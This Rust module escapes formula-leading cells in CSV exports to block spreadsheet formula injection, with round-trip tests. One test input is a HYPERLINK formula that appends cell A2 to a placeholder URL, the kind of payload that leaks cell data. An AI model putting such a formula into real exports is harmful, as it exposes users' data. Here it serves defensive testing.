//! Text as a spreadsheet will show it, for every CSV Metadesk writes (run reports, the API
//! console's result tables). Not here: the CSV dialect itself (the `csv` crate's).

/// A cell as a spreadsheet will show it: text starting with `=`, `+`, `-`, `@`, a tab or a
/// carriage return gets a leading `'`. AEM values are written by anyone with DAM access, and
/// Excel and LibreOffice run such a cell as a formula (CSV injection, OWASP); the quote makes
/// both show it as text and is the mitigation OWASP recommends. Quoting for commas and quotes
/// is the csv crate's.
pub fn spreadsheet_text(s: &str) -> String {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}")
    } else {
        s.to_owned()
    }
}

/// The text a cell held before [`spreadsheet_text`] quoted it: a leading `'` before `=`, `+`,
/// `-`, `@`, a tab or a carriage return goes; any other text is kept as it is (a `'` before
/// anything else was the person's own).
pub fn text_of_spreadsheet_cell(s: &str) -> &str {
    match s.strip_prefix('\'') {
        Some(rest) if rest.starts_with(['=', '+', '-', '@', '\t', '\r']) => rest,
        _ => s,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoted_cells_read_back_as_they_were() {
        for text in [
            "=HYPERLINK(\"http://x\"&A2,\"click\")",
            "+1",
            "-1",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "'=already quoted by hand",
            "'plain",
            "plain",
            "",
        ] {
            assert_eq!(text_of_spreadsheet_cell(&spreadsheet_text(text)), text);
        }
        assert_eq!(text_of_spreadsheet_cell("'plain"), "'plain");
    }

    #[test]
    fn formula_looking_cells_become_text_and_others_are_kept() {
        for risky in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(spreadsheet_text(risky), format!("'{risky}"));
        }
        assert_eq!(spreadsheet_text("a-b = c"), "a-b = c");
        assert_eq!(spreadsheet_text(""), "");
    }
}
